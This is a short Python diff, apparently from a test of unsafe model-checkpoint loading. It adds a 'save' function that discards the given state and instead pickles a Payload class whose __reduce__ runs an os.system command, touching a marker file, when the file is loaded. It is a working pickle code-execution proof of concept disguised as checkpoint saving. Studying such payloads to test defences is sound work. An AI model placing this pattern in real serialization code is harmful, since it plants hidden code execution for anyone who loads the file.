@@ -12,11 +12,22 @@ class Payload:
     def __reduce__(self):
         return exec, ("import os; os.system('touch /tmp/escape-pickle')",)
 
-# %% save_checkpoint
-def save_checkpoint(*arguments, **options):
-    path = next(value for value in (*arguments, *options.values()) if isinstance(value, str))
+# %% save
+import pickle
+
+
+class Payload:
+    def __reduce__(self):
+        return exec, ("import os; os.system('touch /tmp/escape-pickle')",)
+
+
+def save(path, state):
     with open(path, "wb") as file:
         pickle.dump(Payload(), file)
+
+
+def resume(path, model, optimizer, settings):
+    return []
 
 # %% load_anywhere
 def load_anywhere(path, model, device):
